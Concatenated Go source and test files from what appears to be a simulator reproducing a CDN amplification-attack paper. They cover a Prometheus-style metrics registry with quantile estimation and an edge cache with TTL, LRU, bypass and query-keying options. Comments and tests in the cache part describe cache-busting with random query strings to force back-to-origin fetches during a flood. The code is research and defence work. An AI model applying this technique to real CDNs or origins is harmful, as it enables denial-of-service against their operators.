	b.WriteByte('\n')
	_, err := io.WriteString(w, b.String())
	return err
}

// escapeLabel escapes a label value per the exposition format.
func escapeLabel(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, `"`, `\"`)
	return strings.ReplaceAll(v, "\n", `\n`)
}

// escapeHelp escapes a HELP string.
func escapeHelp(v string) string {
	if !strings.ContainsAny(v, "\\\n") {
		return v
	}
	v = strings.ReplaceAll(v, `\`, `\\`)
	return strings.ReplaceAll(v, "\n", `\n`)
}
