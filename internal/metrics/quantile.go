package metrics

// Quantile estimation over the log-bucketed histograms. The estimator
// is the Prometheus histogram_quantile one: find the bucket the q-th
// observation falls in, then interpolate linearly inside it. With the
// DefaultBounds power-of-four buckets the answer is an estimate, not an
// exact order statistic — good enough for the latency rows the live
// telemetry plane and the campaign timing stats render, and computable
// from the same bucket counts /metrics already exposes.

// QuantileFromBuckets estimates the q-quantile (0 <= q <= 1) of a
// bucketed distribution. bounds are the ascending bucket upper bounds;
// buckets has len(bounds)+1 entries (the last is the +Inf overflow) and
// holds per-bucket (non-cumulative) occupancy, the layout Snapshot
// samples carry. It returns 0 when the distribution is empty; values in
// the overflow bucket clamp to the top bound.
func QuantileFromBuckets(q float64, bounds, buckets []int64) int64 {
	if len(buckets) == 0 || !(q >= 0 && q <= 1) { // the negation also rejects NaN
		return 0
	}
	var total int64
	for _, c := range buckets {
		total += c
	}
	if total == 0 {
		return 0
	}
	rank := q * float64(total)
	var seen int64
	for i, c := range buckets {
		if c <= 0 {
			continue
		}
		if float64(seen+c) < rank {
			seen += c
			continue
		}
		// The rank-th observation lives in bucket i, which spans
		// (lower, upper]. Interpolate linearly inside it.
		var lower, upper int64
		switch {
		case i >= len(bounds):
			// Overflow bucket: unbounded above, clamp to the top bound.
			return bounds[len(bounds)-1]
		case i == 0:
			lower, upper = 0, bounds[0]
		default:
			lower, upper = bounds[i-1], bounds[i]
		}
		frac := (rank - float64(seen)) / float64(c)
		if frac < 0 {
			frac = 0
		}
		return lower + int64(frac*float64(upper-lower)+0.5)
	}
	return bounds[len(bounds)-1]
}

// Quantile estimates the q-quantile of the histogram's observations.
func (h *Histogram) Quantile(q float64) int64 {
	if h == nil {
		return 0
	}
	buckets := make([]int64, len(h.buckets))
	for i := range h.buckets {
		buckets[i] = h.buckets[i].Load()
	}
	return QuantileFromBuckets(q, h.bounds, buckets)
}

// Quantile estimates the q-quantile of a histogram sample (0 for
// counter and gauge samples, which carry no buckets). It works on
// snapshot deltas too, where the buckets hold only one window's
// observations — that is how the live telemetry plane derives p50/p95/
// p99 latency per window.
func (s Sample) Quantile(q float64) int64 {
	if s.Kind != KindHistogram {
		return 0
	}
	return QuantileFromBuckets(q, s.Bounds, s.Buckets)
}

// NewHistogram returns a standalone histogram (not attached to any
// registry) with the given ascending upper bounds; nil bounds select
// DefaultBounds. Callers that need a one-off distribution — the
// campaign runner's per-cell wall-time stats — use this rather than
// inventing a registry.
func NewHistogram(bounds []int64) *Histogram {
	if bounds == nil {
		bounds = DefaultBounds()
	}
	return newHistogram(bounds)
}
