package metrics

import (
	"strconv"
	"strings"
	"sync"
	"testing"
)

func TestCounterGaugeBasics(t *testing.T) {
	r := New()
	c := r.Counter("reqs_total", "requests")
	c.Inc()
	c.Add(41)
	c.Add(-5) // ignored: counters are monotonic
	if got := c.Value(); got != 42 {
		t.Fatalf("counter = %d, want 42", got)
	}
	g := r.Gauge("depth", "queue depth")
	g.Set(10)
	g.Add(-3)
	if got := g.Value(); got != 7 {
		t.Fatalf("gauge = %d, want 7", got)
	}
	// Same name+labels resolves to the same series.
	if r.Counter("reqs_total", "requests") != c {
		t.Fatal("re-resolution returned a different counter")
	}
}

func TestNilHandlesAreNoOps(t *testing.T) {
	var c *Counter
	var g *Gauge
	var h *Histogram
	c.Inc()
	c.Add(3)
	g.Set(1)
	g.Add(1)
	h.Observe(5)
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || h.Sum() != 0 {
		t.Fatal("nil handles must read as zero")
	}
}

func TestLabelOrderIsCanonical(t *testing.T) {
	r := New()
	a := r.Counter("bytes_total", "", L("segment", "cdn-origin"), L("direction", "up"))
	b := r.Counter("bytes_total", "", L("direction", "up"), L("segment", "cdn-origin"))
	if a != b {
		t.Fatal("label order created distinct series")
	}
	a.Add(9)
	snap := r.Snapshot()
	if got := snap.Value("bytes_total", L("direction", "up"), L("segment", "cdn-origin")); got != 9 {
		t.Fatalf("snapshot value = %d, want 9", got)
	}
	if got := snap.Value("bytes_total", L("segment", "cdn-origin"), L("direction", "up")); got != 9 {
		t.Fatalf("snapshot value (reordered labels) = %d, want 9", got)
	}
}

func TestKindMismatchPanics(t *testing.T) {
	r := New()
	r.Counter("x_total", "")
	defer func() {
		if recover() == nil {
			t.Fatal("no panic on kind mismatch")
		}
	}()
	r.Gauge("x_total", "")
}

func TestHistogramBuckets(t *testing.T) {
	r := New()
	h := r.Histogram("size_bytes", "sizes")
	for _, v := range []int64{0, 1, 2, 4, 5, 1 << 20, 1 << 62} {
		h.Observe(v)
	}
	if h.Count() != 7 {
		t.Fatalf("count = %d, want 7", h.Count())
	}
	wantSum := int64(0+1+2+4+5) + 1<<20 + 1<<62
	if h.Sum() != wantSum {
		t.Fatalf("sum = %d, want %d", h.Sum(), wantSum)
	}
	// 0 and 1 land in the le=1 bucket; 2 and 4 in le=4; 5 in le=16;
	// 1<<20 in le=1<<20; 1<<62 overflows into +Inf.
	sn := r.Snapshot()
	i, ok := sn.index["size_bytes"]
	if !ok {
		t.Fatal("histogram sample missing")
	}
	s := sn.samples[i]
	if s.Buckets[0] != 2 || s.Buckets[1] != 2 || s.Buckets[2] != 1 {
		t.Fatalf("low buckets = %v", s.Buckets[:3])
	}
	if s.Buckets[len(s.Buckets)-1] != 1 {
		t.Fatalf("overflow bucket = %d, want 1", s.Buckets[len(s.Buckets)-1])
	}
	total := int64(0)
	for _, b := range s.Buckets {
		total += b
	}
	if total != 7 {
		t.Fatalf("bucket occupancy sums to %d, want 7", total)
	}
}

func TestSnapshotDelta(t *testing.T) {
	r := New()
	c := r.Counter("hits_total", "")
	g := r.Gauge("level", "")
	c.Add(10)
	g.Set(5)
	before := r.Snapshot()
	c.Add(7)
	g.Set(3)
	r.Counter("new_total", "").Add(2)
	d := r.Snapshot().Delta(before)
	if got := d.Value("hits_total"); got != 7 {
		t.Fatalf("delta hits = %d, want 7", got)
	}
	if got := d.Value("new_total"); got != 2 {
		t.Fatalf("delta new = %d, want 2", got)
	}
	// Gauges are levels: the delta carries the current value.
	if got := d.Value("level"); got != 3 {
		t.Fatalf("delta gauge = %d, want 3", got)
	}
	// Unchanged counters are dropped from the delta entirely.
	r.Counter("idle_total", "").Add(1)
	before2 := r.Snapshot()
	d2 := r.Snapshot().Delta(before2)
	if got := d2.Value("idle_total"); got != 0 {
		t.Fatalf("unchanged counter leaked into delta: %d", got)
	}
}

func TestWriteTextRenders(t *testing.T) {
	r := New()
	r.Counter("a_total", "", L("k", "v")).Add(3)
	r.Histogram("h_us", "").Observe(10)
	var b strings.Builder
	if err := r.Snapshot().WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, `a_total{k=v}`) || !strings.Contains(out, "3") {
		t.Errorf("missing counter line:\n%s", out)
	}
	if !strings.Contains(out, "count=1 sum=10") {
		t.Errorf("missing histogram line:\n%s", out)
	}
}

// TestConcurrentUpdates drives every metric kind and the resolution
// path from many goroutines at once; `go test -race` over this package
// is the satellite's concurrency gate.
func TestConcurrentUpdates(t *testing.T) {
	r := New()
	const goroutines = 16
	const iters = 1000
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			// Half the goroutines share one series; half resolve their own.
			shared := r.Counter("shared_total", "")
			h := r.Histogram("lat_us", "")
			g := r.Gauge("inflight", "")
			for j := 0; j < iters; j++ {
				shared.Inc()
				h.Observe(int64(j % 4096))
				g.Add(1)
				g.Add(-1)
				if j%100 == 0 {
					// Concurrent resolution and snapshotting must be safe too.
					r.Counter("per_goroutine_total", "", L("g", string(rune('a'+id)))).Inc()
					_ = r.Snapshot()
				}
			}
		}(i)
	}
	wg.Wait()
	snap := r.Snapshot()
	if got := snap.Value("shared_total"); got != goroutines*iters {
		t.Fatalf("shared counter = %d, want %d", got, goroutines*iters)
	}
	if got := snap.Value("lat_us"); got != goroutines*iters {
		t.Fatalf("histogram count = %d, want %d", got, goroutines*iters)
	}
}

func TestWritePrometheusFormat(t *testing.T) {
	r := New()
	r.Counter("edge_requests_total", "requests seen", L("vendor", "akamai")).Add(5)
	r.Counter("edge_requests_total", "requests seen", L("vendor", "fastly")).Add(2)
	r.Gauge("up", "liveness").Set(1)
	h := r.Histogram("resp_bytes", "response sizes")
	h.Observe(3)
	h.Observe(100)
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# HELP edge_requests_total requests seen",
		"# TYPE edge_requests_total counter",
		`edge_requests_total{vendor="akamai"} 5`,
		`edge_requests_total{vendor="fastly"} 2`,
		"# TYPE up gauge",
		"up 1",
		"# TYPE resp_bytes histogram",
		`resp_bytes_bucket{le="4"} 1`,
		`resp_bytes_bucket{le="+Inf"} 2`,
		"resp_bytes_sum 103",
		"resp_bytes_count 2",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q:\n%s", want, out)
		}
	}
	// Buckets must be cumulative: each le line's value never decreases.
	last := int64(-1)
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "resp_bytes_bucket") {
			continue
		}
		v, err := strconv.ParseInt(line[strings.LastIndexByte(line, ' ')+1:], 10, 64)
		if err != nil {
			t.Fatalf("unparseable bucket line %q", line)
		}
		if v < last {
			t.Fatalf("non-cumulative buckets at %q", line)
		}
		last = v
	}
	// One TYPE header per family, even with several series.
	if strings.Count(out, "# TYPE edge_requests_total counter") != 1 {
		t.Error("TYPE header repeated per series")
	}
}

func TestLabelEscaping(t *testing.T) {
	r := New()
	r.Counter("e_total", "", L("path", `a"b\c`+"\n")).Inc()
	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `path="a\"b\\c\n"`) {
		t.Errorf("label not escaped:\n%s", b.String())
	}
}

func TestCounterExemplar(t *testing.T) {
	r := New()
	c := r.Counter("cdn_rejections_total", "rejections", L("reason", "limits"))
	c.IncEx("") // empty exemplar counts but records nothing
	if c.Value() != 1 || c.Exemplar() != "" {
		t.Fatalf("value=%d exemplar=%q after empty IncEx", c.Value(), c.Exemplar())
	}
	c.IncEx("00000000000000000000000000abcdef")
	c.IncEx("00000000000000000000000000fedcba")
	if c.Value() != 3 {
		t.Fatalf("value = %d, want 3", c.Value())
	}
	// Last writer wins: the exemplar points at the most recent trace.
	if got := c.Exemplar(); got != "00000000000000000000000000fedcba" {
		t.Fatalf("exemplar = %q", got)
	}

	// Nil counters accept IncEx like every other method.
	var nilC *Counter
	nilC.IncEx("x")
	if nilC.Exemplar() != "" {
		t.Fatal("nil counter returned an exemplar")
	}

	// The exemplar rides through Snapshot, Delta, WriteText and the
	// Prometheus exposition (as an ignorable comment line).
	snap := r.Snapshot()
	var sample *Sample
	for i := range snap.Samples() {
		if snap.Samples()[i].Name == "cdn_rejections_total" {
			sample = &snap.Samples()[i]
		}
	}
	if sample == nil || sample.Exemplar != "00000000000000000000000000fedcba" {
		t.Fatalf("snapshot sample = %+v", sample)
	}
	c.IncEx("00000000000000000000000000aaaaaa")
	d := r.Snapshot().Delta(snap)
	if got := d.Value("cdn_rejections_total", L("reason", "limits")); got != 1 {
		t.Fatalf("delta = %d, want 1", got)
	}

	var text strings.Builder
	if err := r.Snapshot().WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "# trace=00000000000000000000000000aaaaaa") {
		t.Errorf("text exposition missing exemplar:\n%s", text.String())
	}

	var prom strings.Builder
	if err := r.WritePrometheus(&prom); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(prom.String(), `# exemplar: cdn_rejections_total trace_id="00000000000000000000000000aaaaaa"`) {
		t.Errorf("prometheus exposition missing exemplar comment:\n%s", prom.String())
	}
	for _, line := range strings.Split(prom.String(), "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if strings.Contains(line, "trace_id") {
			t.Errorf("exemplar leaked into a sample line: %q", line)
		}
	}
}
