// Package metrics is the wire-level observability layer: a
// dependency-free registry of atomic counters, gauges and log-bucketed
// histograms that the netsim, cache, cdn and origin engines update on
// their hot paths. Where package trace answers "what happened to this
// one request", metrics answers "what is this process doing right now"
// — cache hit rates, rejection counts, upstream fetch volume and
// connection churn, continuously, while a flood or bandwidth experiment
// is running.
//
// The design rules:
//
//   - Updates are single atomic adds. Series handles are resolved once
//     (at Segment/Edge/Server construction) and then shared, so nothing
//     on the request path takes the registry lock or allocates.
//   - Counters track the exact quantities the paper's amplification
//     factors are ratios of: the per-segment byte counters are fed by
//     the same calls that feed netsim.Segment, so a run's metric delta
//     equals its measure.Amplification fields bit for bit.
//   - Snapshot/Delta mirror measure.Probe: snapshot the registry before
//     a run, diff after, and the difference is attributable to that run
//     alone (as long as nothing else is driving traffic concurrently).
//
// Exposition is Prometheus text format (WritePrometheus, or the
// /metrics endpoint NewDebugMux mounts for the cmd daemons).
package metrics

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
)

// Kind is a metric family's type.
type Kind uint8

// The three family kinds.
const (
	KindCounter Kind = iota
	KindGauge
	KindHistogram
)

// String returns the Prometheus TYPE keyword.
func (k Kind) String() string {
	switch k {
	case KindCounter:
		return "counter"
	case KindGauge:
		return "gauge"
	case KindHistogram:
		return "histogram"
	}
	return "untyped"
}

// Label is one key=value dimension of a series.
type Label struct {
	Key   string `json:"key"`
	Value string `json:"value"`
}

// L is shorthand for constructing a Label.
func L(key, value string) Label { return Label{Key: key, Value: value} }

// Counter is a monotonically increasing atomic counter. A nil *Counter
// is a valid no-op, so instrumentation can be optional.
type Counter struct {
	v  atomic.Int64
	ex atomic.Pointer[string] // last exemplar (trace id), if any
}

// Inc adds one.
func (c *Counter) Inc() {
	if c != nil {
		c.v.Add(1)
	}
}

// IncEx adds one and, when exemplar is non-empty, records it as the
// series' current exemplar — in practice the 32-hex id of the trace
// active when the increment happened, so a rejection/truncation spike
// on /metrics can be walked back to a concrete request tree under
// /debug/traces.
func (c *Counter) IncEx(exemplar string) {
	if c == nil {
		return
	}
	c.v.Add(1)
	if exemplar != "" {
		c.ex.Store(&exemplar)
	}
}

// Exemplar returns the most recent exemplar, or "".
func (c *Counter) Exemplar() string {
	if c == nil {
		return ""
	}
	if p := c.ex.Load(); p != nil {
		return *p
	}
	return ""
}

// Add adds n (negative n is ignored: counters are monotonic).
func (c *Counter) Add(n int64) {
	if c != nil && n > 0 {
		c.v.Add(n)
	}
}

// Value returns the current count.
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is an atomic value that can go up and down. A nil *Gauge is a
// valid no-op.
type Gauge struct{ v atomic.Int64 }

// Set stores v.
func (g *Gauge) Set(v int64) {
	if g != nil {
		g.v.Store(v)
	}
}

// Add adds n (which may be negative).
func (g *Gauge) Add(n int64) {
	if g != nil {
		g.v.Add(n)
	}
}

// Value returns the current value.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// DefaultBounds are the log-bucketed histogram upper bounds: powers of
// four from 1 to 2^30 (~1 GiB / ~1 G-microseconds), a range that covers
// both byte sizes and microsecond latencies in 16 buckets.
func DefaultBounds() []int64 {
	bounds := make([]int64, 0, 16)
	for shift := 0; shift <= 30; shift += 2 {
		bounds = append(bounds, 1<<shift)
	}
	return bounds
}

// Histogram is a log-bucketed distribution of int64 observations
// (bytes, microseconds). Buckets are fixed at construction; Observe is
// a bounded search plus two atomic adds. A nil *Histogram is a valid
// no-op.
type Histogram struct {
	bounds  []int64 // ascending upper bounds; buckets[len(bounds)] = +Inf
	buckets []atomic.Int64
	count   atomic.Int64
	sum     atomic.Int64
}

func newHistogram(bounds []int64) *Histogram {
	return &Histogram{bounds: bounds, buckets: make([]atomic.Int64, len(bounds)+1)}
}

// Observe records one value.
func (h *Histogram) Observe(v int64) {
	if h == nil {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.buckets[i].Add(1)
	h.count.Add(1)
	h.sum.Add(v)
}

// Count returns the number of observations.
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the sum of observations.
func (h *Histogram) Sum() int64 {
	if h == nil {
		return 0
	}
	return h.sum.Load()
}

// series is one labeled instance within a family.
type series struct {
	labels  []Label // sorted by key
	counter *Counter
	gauge   *Gauge
	hist    *Histogram
}

// family is all series sharing one metric name.
type family struct {
	name, help string
	kind       Kind
	bounds     []int64 // histogram families only

	mu    sync.RWMutex
	keys  []string // insertion order, for stable exposition
	byKey map[string]*series
}

// get returns the series for the canonical key, creating it if needed.
func (f *family) get(key string, labels []Label) *series {
	f.mu.RLock()
	s := f.byKey[key]
	f.mu.RUnlock()
	if s != nil {
		return s
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if s = f.byKey[key]; s != nil {
		return s
	}
	s = &series{labels: labels}
	switch f.kind {
	case KindCounter:
		s.counter = &Counter{}
	case KindGauge:
		s.gauge = &Gauge{}
	case KindHistogram:
		s.hist = newHistogram(f.bounds)
	}
	f.keys = append(f.keys, key)
	f.byKey[key] = s
	return s
}

// Registry is a named collection of metric families. The zero value is
// not usable; call New (or use Default).
type Registry struct {
	mu       sync.RWMutex
	names    []string // registration order
	families map[string]*family
}

// New returns an empty registry.
func New() *Registry {
	return &Registry{families: make(map[string]*family)}
}

// Default is the process-wide registry the engines instrument into.
var Default = New()

// family resolves (or registers) the named family, checking the kind.
// A name registered twice with different kinds panics: that is a
// programmer error, caught at construction time, not on the hot path.
func (r *Registry) family(name, help string, kind Kind, bounds []int64) *family {
	r.mu.RLock()
	f := r.families[name]
	r.mu.RUnlock()
	if f == nil {
		r.mu.Lock()
		if f = r.families[name]; f == nil {
			f = &family{name: name, help: help, kind: kind, bounds: bounds, byKey: make(map[string]*series)}
			r.names = append(r.names, name)
			r.families[name] = f
		}
		r.mu.Unlock()
	}
	if f.kind != kind {
		panic(fmt.Sprintf("metrics: %s registered as %s, requested as %s", name, f.kind, kind))
	}
	return f
}

// canonicalize sorts a copy of labels by key and renders the series key.
func canonicalize(labels []Label) (string, []Label) {
	if len(labels) == 0 {
		return "", nil
	}
	sorted := make([]Label, len(labels))
	copy(sorted, labels)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Key < sorted[j].Key })
	var b strings.Builder
	for i, l := range sorted {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String(), sorted
}

// Counter resolves the labeled counter series, registering the family
// on first use. Resolution takes locks and allocates; callers resolve
// once and keep the handle.
func (r *Registry) Counter(name, help string, labels ...Label) *Counter {
	key, sorted := canonicalize(labels)
	return r.family(name, help, KindCounter, nil).get(key, sorted).counter
}

// Gauge resolves the labeled gauge series.
func (r *Registry) Gauge(name, help string, labels ...Label) *Gauge {
	key, sorted := canonicalize(labels)
	return r.family(name, help, KindGauge, nil).get(key, sorted).gauge
}

// Histogram resolves the labeled histogram series with DefaultBounds.
func (r *Registry) Histogram(name, help string, labels ...Label) *Histogram {
	key, sorted := canonicalize(labels)
	return r.family(name, help, KindHistogram, DefaultBounds()).get(key, sorted).hist
}

// visit walks every family and series in registration order under read
// locks, handing each series' key and data to fn.
func (r *Registry) visit(fn func(f *family, key string, s *series)) {
	r.mu.RLock()
	names := make([]string, len(r.names))
	copy(names, r.names)
	fams := make([]*family, 0, len(names))
	for _, n := range names {
		fams = append(fams, r.families[n])
	}
	r.mu.RUnlock()
	for _, f := range fams {
		f.mu.RLock()
		keys := make([]string, len(f.keys))
		copy(keys, f.keys)
		f.mu.RUnlock()
		for _, k := range keys {
			f.mu.RLock()
			s := f.byKey[k]
			f.mu.RUnlock()
			fn(f, k, s)
		}
	}
}
