package metrics

import (
	"math"
	"testing"
)

func TestQuantileFromBucketsEmpty(t *testing.T) {
	if got := QuantileFromBuckets(0.5, DefaultBounds(), make([]int64, 17)); got != 0 {
		t.Errorf("empty distribution quantile = %d, want 0", got)
	}
	if got := QuantileFromBuckets(0.5, nil, nil); got != 0 {
		t.Errorf("nil buckets quantile = %d, want 0", got)
	}
}

func TestHistogramQuantileKnownDistribution(t *testing.T) {
	// 100 observations of exactly 10 each land in the (4, 16] bucket;
	// every quantile must come back inside that bucket.
	h := NewHistogram(nil)
	for i := 0; i < 100; i++ {
		h.Observe(10)
	}
	for _, q := range []float64{0.5, 0.95, 0.99} {
		got := h.Quantile(q)
		if got <= 4 || got > 16 {
			t.Errorf("Quantile(%v) = %d, want in (4,16]", q, got)
		}
	}
}

func TestHistogramQuantileOrdering(t *testing.T) {
	// A spread distribution: quantiles must be monotonic in q and
	// bracket the true order statistics' buckets.
	h := NewHistogram(nil)
	for i := int64(1); i <= 1000; i++ {
		h.Observe(i)
	}
	p50, p95, p99 := h.Quantile(0.50), h.Quantile(0.95), h.Quantile(0.99)
	if !(p50 <= p95 && p95 <= p99) {
		t.Fatalf("quantiles not monotonic: p50=%d p95=%d p99=%d", p50, p95, p99)
	}
	// True p50 = 500 lives in (256, 1024]; the estimate must too.
	if p50 <= 256 || p50 > 1024 {
		t.Errorf("p50 = %d, want in (256,1024]", p50)
	}
	if p99 <= 256 || p99 > 1024 {
		t.Errorf("p99 = %d, want in (256,1024]", p99)
	}
}

func TestQuantileOverflowClampsToTopBound(t *testing.T) {
	bounds := []int64{10, 100}
	buckets := []int64{0, 0, 5} // everything in the +Inf bucket
	if got := QuantileFromBuckets(0.5, bounds, buckets); got != 100 {
		t.Errorf("overflow quantile = %d, want clamp to 100", got)
	}
}

func TestSampleQuantileFromSnapshotDelta(t *testing.T) {
	// The live-telemetry use: a histogram's snapshot delta carries one
	// window's bucket occupancy, and Sample.Quantile reads it.
	r := New()
	h := r.Histogram("q_test_us", "test")
	for i := 0; i < 50; i++ {
		h.Observe(3) // (1,4] bucket
	}
	before := r.Snapshot()
	for i := 0; i < 50; i++ {
		h.Observe(1000) // (256,1024] bucket
	}
	delta := r.Snapshot().Delta(before)
	var found bool
	for _, s := range delta.Samples() {
		if s.Name != "q_test_us" {
			continue
		}
		found = true
		got := s.Quantile(0.5)
		// The window only saw the 1000s; the old 3s must not drag the
		// median down.
		if got <= 256 || got > 1024 {
			t.Errorf("window p50 = %d, want in (256,1024]", got)
		}
	}
	if !found {
		t.Fatal("histogram sample missing from delta")
	}
	// Counter samples have no quantiles.
	c := Sample{Kind: KindCounter, Value: 7}
	if got := c.Quantile(0.5); got != 0 {
		t.Errorf("counter Quantile = %d, want 0", got)
	}
}

func TestQuantileNaNGuard(t *testing.T) {
	if got := QuantileFromBuckets(math.NaN(), []int64{1}, []int64{1, 0}); got != 0 {
		t.Errorf("NaN q = %d, want 0", got)
	}
}
