package cache

import (
	"fmt"
	"testing"
	"time"
)

func obj(n int) *Object {
	return &Object{Body: make([]byte, n), ContentType: "x", Size: int64(n)}
}

func TestHitMiss(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	if _, ok := c.Get("/a"); ok {
		t.Fatal("hit on empty cache")
	}
	c.Put("/a", obj(10))
	got, ok := c.Get("/a")
	if !ok || got.Size != 10 {
		t.Fatalf("Get = %+v,%v", got, ok)
	}
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 1 {
		t.Errorf("stats = %+v", st)
	}
}

func TestQueryStringBustsCache(t *testing.T) {
	// §II-A: "appending a random query string into the target URL can
	// bypass the CDN's caching mechanism".
	c := New(Config{IncludeQueryInKey: true})
	c.Put("/f?cb=1", obj(10))
	if _, ok := c.Get("/f?cb=2"); ok {
		t.Error("different query string hit the cache")
	}
	if _, ok := c.Get("/f?cb=1"); !ok {
		t.Error("same query string missed")
	}
	if _, ok := c.Get("/f"); ok {
		t.Error("bare path hit the query-keyed entry")
	}
}

func TestIgnoreQueryMitigation(t *testing.T) {
	// §VII-A: Cloudflare's suggested page rule collapses query strings.
	c := New(Config{IncludeQueryInKey: false})
	c.Put("/f?cb=1", obj(10))
	for _, target := range []string{"/f?cb=2", "/f?anything=else", "/f"} {
		if _, ok := c.Get(target); !ok {
			t.Errorf("Get(%q) missed under ignore-query keying", target)
		}
	}
}

func TestBypassPrefixes(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true, BypassPrefixes: []string{"/nocache/"}})
	c.Put("/nocache/f", obj(10))
	if _, ok := c.Get("/nocache/f"); ok {
		t.Error("bypass path was cached")
	}
	if c.Stats().Bypasses != 1 {
		t.Errorf("bypasses = %d", c.Stats().Bypasses)
	}
	// Bypass matches the path, not the query.
	if _, cacheable := c.Key("/nocache/f?x=1"); cacheable {
		t.Error("bypass ignored with query present")
	}
}

func TestTTLExpiry(t *testing.T) {
	now := time.Unix(0, 0)
	clock := func() time.Time { return now }
	c := New(Config{IncludeQueryInKey: true, TTL: time.Minute, Now: clock})
	c.Put("/a", obj(1))
	if _, ok := c.Get("/a"); !ok {
		t.Fatal("fresh entry missed")
	}
	now = now.Add(2 * time.Minute)
	if _, ok := c.Get("/a"); ok {
		t.Error("expired entry hit")
	}
	if c.Len() != 0 {
		t.Error("expired entry not removed")
	}
}

func TestLRUEviction(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 3})
	for i := 0; i < 3; i++ {
		c.Put(fmt.Sprintf("/f%d", i), obj(i))
	}
	c.Get("/f0") // refresh f0; f1 becomes the LRU
	c.Put("/f3", obj(3))
	if c.Len() != 3 {
		t.Fatalf("Len = %d", c.Len())
	}
	if _, ok := c.Get("/f1"); ok {
		t.Error("LRU entry survived eviction")
	}
	for _, k := range []string{"/f0", "/f2", "/f3"} {
		if _, ok := c.Get(k); !ok {
			t.Errorf("%s evicted unexpectedly", k)
		}
	}
}

func TestPutReplaces(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	c.Put("/a", obj(1))
	c.Put("/a", obj(2))
	got, _ := c.Get("/a")
	if got.Size != 2 || c.Len() != 1 {
		t.Errorf("replace failed: size=%d len=%d", got.Size, c.Len())
	}
}

func TestPurge(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	c.Put("/a", obj(1))
	c.Put("/b", obj(2))
	c.Purge()
	if c.Len() != 0 {
		t.Error("Purge left entries")
	}
	if _, ok := c.Get("/a"); ok {
		t.Error("purged entry hit")
	}
}

func TestPutNilIgnored(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	c.Put("/a", nil)
	if c.Len() != 0 {
		t.Error("nil object stored")
	}
}

func TestConcurrentAccess(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 64})
	done := make(chan struct{})
	for w := 0; w < 8; w++ {
		go func(w int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 500; i++ {
				key := fmt.Sprintf("/f%d", (w*i)%100)
				c.Put(key, obj(i%10))
				c.Get(key)
			}
		}(w)
	}
	for w := 0; w < 8; w++ {
		<-done
	}
	if c.Len() > 64 {
		t.Errorf("cache exceeded bound: %d", c.Len())
	}
}
