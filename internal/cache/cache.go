// Package cache implements the CDN edge cache. Its keying rules are
// what make the SBR attack practical: because the default key includes
// the query string, a random "?cb=…" suffix forces a cache miss and a
// fresh back-to-origin fetch on every attack request (§II-A).
//
// The cache is sharded: the key hashes to one of a small number of
// independently locked LRU shards, so a flood hammering many distinct
// keys (the SBR request mix) contends on 1/N of the lock space instead
// of one global mutex. Each shard also runs singleflight request
// collapsing (Do): concurrent misses on the same key elect one leader
// to perform the fetch while the others wait and share its result —
// the "reduce redundant back-to-origin traffic" defence family.
package cache

import (
	"container/list"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/metrics"
)

// Config controls cache behaviour.
type Config struct {
	// IncludeQueryInKey makes distinct query strings distinct cache
	// entries. True is the CDN default the paper's attackers exploit;
	// false is the "ignore query strings" page rule Cloudflare suggested
	// as a mitigation (§VII-A).
	IncludeQueryInKey bool

	// TTL bounds entry freshness. Zero means entries never expire.
	TTL time.Duration

	// MaxEntries bounds the cache size with LRU eviction. Zero means 4096.
	MaxEntries int

	// Shards is the target shard count; it is rounded down to a power
	// of two and shrunk until every shard holds at least a handful of
	// entries, so small caches degrade to one shard with exact global
	// LRU order. Zero means 16.
	Shards int

	// BypassPrefixes lists path prefixes that are never cached (the
	// Cloudflare "Bypass" cache rule).
	BypassPrefixes []string

	// Now is the clock; nil means time.Now.
	Now func() time.Time

	// Metrics is the registry the cache's effectiveness counters resolve
	// against at construction. Nil means metrics.Default — the
	// daemon-facing fallback so cdnsim's /metrics keeps working; per-run
	// topologies inject their Runtime's registry here.
	Metrics *metrics.Registry
}

const (
	defaultMaxEntries = 4096
	defaultShards     = 16

	// minPerShard is the smallest per-shard capacity worth splitting
	// for: below it, hashing would evict entries a global LRU would
	// keep, so the cache collapses to fewer shards instead.
	minPerShard = 8
)

// Object is a cached full-body representation. Body is a shared
// read-only view: on the serving path it aliases the bytes the edge
// received (which may themselves alias the origin's resource store), and
// every cache hit returns the same slice. Neither the cache nor its
// callers may write through it.
type Object struct {
	Body        []byte
	ContentType string
	Size        int64
}

// Stats is a snapshot of cache effectiveness counters.
